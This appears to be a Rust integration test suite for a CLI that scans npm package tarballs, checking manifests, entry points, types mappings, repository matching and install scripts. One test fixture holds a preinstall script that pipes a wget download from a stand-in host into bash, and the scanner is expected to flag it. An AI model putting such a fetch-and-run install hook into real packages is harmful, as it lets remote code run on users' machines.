//! package.json checks through the CLI: what a release job sees.

mod support;

use support::*;

fn pkg_json(json: &str) -> Vec<u8> {
    TarBuilder::new()
        .file("package.json", json)
        .file("index.js", "x")
        .tgz()
}

fn finding<'a>(r: &'a serde_json::Value, rule: &str) -> Option<&'a serde_json::Value> {
    r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule)
}

#[test]
fn invalid_json_points_at_the_position() {
    let s = Scratch::new();
    let (code, r) = s.scan_json(
        &pkg_json("{\n  \"name\": \"a\",\n  \"version\": 1.0.0\n}"),
        &[],
    );
    assert_eq!(code, 1);
    let f = finding(&r, "manifest/invalid-json").expect("invalid JSON reported");
    assert_eq!(f["file"], "package/package.json");
    assert_eq!(
        (f["line"].as_u64(), f["column"].as_u64()),
        (Some(3), Some(17))
    );
}

#[test]
fn repository_must_match_the_expected_repo_from_flag_or_actions_env() {
    let s = Scratch::new();
    let tgz = pkg_json(
        r#"{"name":"a","version":"1.0.0","repository":{"type":"git","url":"git+https://github.com/acme/old-name.git"}}"#,
    );
    let (code, r) = s.scan_json(&tgz, &["--expect-repo", "acme/widget"]);
    assert_eq!(code, 1);
    let f = finding(&r, "manifest/repository-mismatch").expect("mismatch reported");
    assert!(f["message"]
        .as_str()
        .unwrap()
        .contains("github.com/acme/widget"));
    assert_eq!(f["line"], 1);
    // Without an expected repository there is nothing to compare with.
    let (code, r) = s.scan_json(&tgz, &[]);
    assert_eq!(code, 0);
    assert!(finding(&r, "manifest/repository-mismatch").is_none());
    // In GitHub Actions, GITHUB_REPOSITORY says where the release comes from.
    let f = s.write("p.tgz", &tgz);
    let out = s
        .cmd()
        .arg("scan")
        .arg(&f)
        .args(["--format", "json"])
        .env("GITHUB_REPOSITORY", "acme/widget")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let out = s
        .cmd()
        .arg("scan")
        .arg(&f)
        .env("GITHUB_REPOSITORY", "acme/old-name")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn install_scripts_warn_and_download_scripts_fail() {
    let s = Scratch::new();
    let (code, r) = s.scan_json(
        &pkg_json(r#"{"name":"a","version":"1.0.0","repository":"o/a","scripts":{"postinstall":"node setup.js"}}"#),
        &[],
    );
    assert_eq!(code, 0);
    assert_eq!(
        finding(&r, "manifest/install-script").unwrap()["severity"],
        "warning"
    );
    let (code, r) = s.scan_json(
        &pkg_json(r#"{"name":"a","version":"1.0.0","repository":"o/a","scripts":{"preinstall":"wget -qO- https://x.example/i | bash"}}"#),
        &[],
    );
    assert_eq!(code, 1);
    assert!(finding(&r, "manifest/install-script-download").is_some());
    assert!(
        finding(&r, "manifest/install-script").is_none(),
        "one finding per script"
    );
}

#[test]
fn entry_points_are_checked_against_what_ships() {
    let s = Scratch::new();
    let tgz = TarBuilder::new()
        .file(
            "package.json",
            r#"{"name":"a","version":"1.0.0","repository":"o/a","main":"./dist/index.js","bin":{"a":"./bin/a.js"},"exports":{".":{"types":"./dist/index.d.ts","import":"./dist/index.mjs","default":"./dist/index.js"},"./feature/*":"./dist/feature/*.js"}}"#,
        )
        .file("dist/index.js", "x")
        .file("dist/index.d.ts", "x")
        .tgz();
    let (code, r) = s.scan_json(&tgz, &[]);
    assert_eq!(code, 1);
    let missing: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "manifest/missing-entry-point")
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert_eq!(missing.len(), 3, "{missing:#?}");
    assert!(missing.iter().any(|m| m.contains("./bin/a.js")));
    assert!(missing.iter().any(|m| m.contains("./dist/index.mjs")));
    assert!(missing.iter().any(|m| m.contains("./dist/feature/*.js")));
}

/// An `exports` pattern is judged as Node reads it (`*` is any non-empty string, `/`
/// included): one that matches a file deep down is fine, one that matches nothing says so.
#[test]
fn an_exports_pattern_that_matches_no_file_says_so() {
    let s = Scratch::new();
    let tgz = TarBuilder::new()
        .file(
            "package.json",
            r#"{"name":"a","version":"1.0.0","repository":"o/a","exports":{"./schematics/*":{"default":"./schematics/*.js"},"./deep/*":"./lib/*.js","./fonts/*":"./fonts/*"}}"#,
        )
        .file("schematics/bundles/migrate.cjs", "x")
        .file("lib/a/b/c.js", "x")
        .tgz();
    let (code, r) = s.scan_json(&tgz, &[]);
    assert_eq!(code, 1);
    let mut missing: Vec<&str> = of_rule(&r, "manifest/missing-entry-point")
        .iter()
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    missing.sort_unstable();
    assert_eq!(
        missing,
        [
            "an entry point points at a file that is not in the package: exports[\"./fonts/*\"] → the pattern `./fonts/*` matches no file in the package",
            "an entry point points at a file that is not in the package: exports[\"./schematics/*\"][\"default\"] → the pattern `./schematics/*.js` matches no file in the package",
        ]
    );
}

/// TypeScript reads top-level `types` through `typesVersions` (rxjs maps `*` to
/// `dist/types/*`): a `types` file that is only found there is not missing.
#[test]
fn types_redirected_by_types_versions_are_found() {
    let s = Scratch::new();
    let manifest = |versions: &str| {
        format!(
            r#"{{"name":"a","version":"1.0.0","repository":"o/a","main":"index.js","types":"index.d.ts","typesVersions":{versions}}}"#
        )
    };
    let scan = |versions: &str| {
        let tgz = TarBuilder::new()
            .file("package.json", manifest(versions))
            .file("index.js", "x")
            .file("dist/types/index.d.ts", "export {}")
            .tgz();
        s.scan_json(&tgz, &[]).1
    };
    let r = scan(r#"{">=4.2":{"*":["dist/types/*"]}}"#);
    assert!(of_rule(&r, "manifest/missing-types").is_empty(), "{r:#}");
    // A mapping to a file that does not ship either is still a finding, and says where it
    // looked.
    let r = scan(r#"{">=4.2":{"*":["types/*"]}}"#);
    let f = of_rule(&r, "manifest/missing-types");
    assert_eq!(f.len(), 1, "{r:#}");
    assert!(f[0]["message"]
        .as_str()
        .unwrap()
        .ends_with("nor where `typesVersions` maps it (`types/index.d.ts`)"));
    // A range only older compilers satisfy does not apply.
    let r = scan(r#"{"<4.0":{"*":["dist/types/*"]}}"#);
    assert_eq!(of_rule(&r, "manifest/missing-types").len(), 1, "{r:#}");
}

#[test]
fn private_packages_and_unexpected_registries() {
    let s = Scratch::new();
    let (code, r) = s.scan_json(
        &pkg_json(r#"{"name":"a","version":"1.0.0","repository":"o/a","private":true,"publishConfig":{"registry":"https://npm.pkg.github.com"}}"#),
        &[],
    );
    assert_eq!(code, 1);
    assert_eq!(
        finding(&r, "manifest/private").unwrap()["severity"],
        "error"
    );
    assert!(finding(&r, "manifest/publish-registry").unwrap()["message"]
        .as_str()
        .unwrap()
        .contains("npm.pkg.github.com"));
}

#[test]
fn a_package_without_manifest_is_reported() {
    let s = Scratch::new();
    let (code, r) = s.scan_json(&TarBuilder::new().file("index.js", "x").tgz(), &[]);
    assert_eq!(code, 1);
    assert!(has(&r, "manifest/missing", "package/package.json"));
}

/// A value that is no repository name is a mistake in the command (exit 2), not a
/// mismatch in the package (issue 18).
#[test]
fn an_invalid_expect_repo_is_bad_usage() {
    let s = Scratch::new();
    let tgz = pkg_json(r#"{"name":"a","version":"1.0.0","repository":"github:acme/widget"}"#);
    for bad in ["not a repo", "", "https://github.com/acme/widget"] {
        s.write("pkg.tgz", &tgz);
        let out = s
            .cmd()
            .args(["scan", "pkg.tgz", "--expect-repo", bad])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{bad:?}: {out:?}");
    }
    let (code, _) = s.scan_json(&tgz, &["--expect-repo", "acme/widget"]);
    assert_eq!(code, 0);
}
